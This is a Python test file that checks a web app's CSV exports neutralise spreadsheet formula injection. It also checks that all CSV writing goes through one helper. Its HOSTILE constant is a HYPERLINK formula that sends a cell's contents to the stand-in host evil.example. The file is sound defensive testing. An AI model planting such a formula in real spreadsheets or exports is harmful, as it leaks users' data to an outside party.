"""CSV formula injection: every CSV the app writes neutralises cells a spreadsheet would run."""

from __future__ import annotations

import csv
import io
import re

from fastapi.testclient import TestClient

from app.services.csv_cells import safe_cell
from tests.conftest import ROOT

HOSTILE = '=HYPERLINK("https://evil.example/?x="&A1,"click")'


def test_safe_cell() -> None:
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert safe_cell(start + "1+1") == "'" + start + "1+1"
    assert safe_cell("Plain title") == "Plain title"
    assert safe_cell(-3) == -3 and safe_cell(0.5) == 0.5 and safe_cell("") == ""


def test_the_search_export_neutralises_formulas(client: TestClient, auth: dict[str, str]) -> None:
    body = {"date": "2022-01-06", "title": HOSTILE, "source": "@source", "body": "-1 pipeline"}
    assert client.post("/api/v1/articles", json=body, headers=auth).status_code == 201
    r = client.get("/api/v1/search/export", params={"q": "pipeline", "format": "csv"})
    assert r.status_code == 200
    rows = list(csv.DictReader(io.StringIO(r.text)))
    assert rows[0]["title"] == "'" + HOSTILE
    assert rows[0]["source"] == "'@source" and rows[0]["body"] == "'-1 pipeline"
    # the NDJSON export is data, not a spreadsheet: untouched
    r = client.get("/api/v1/search/export", params={"q": "pipeline", "format": "ndjson"})
    assert HOSTILE.replace('"', '\\"') in r.text


def test_every_csv_writer_goes_through_the_helper() -> None:
    """One helper for all: a new CSV writer elsewhere would skip the neutralising."""
    for path in (ROOT / "app").rglob("*.py"):
        if path.name == "csv_cells.py":
            continue
        text = path.read_text(encoding="utf-8")
        assert not re.search(r"csv\.(writer|DictWriter)\(", text), path
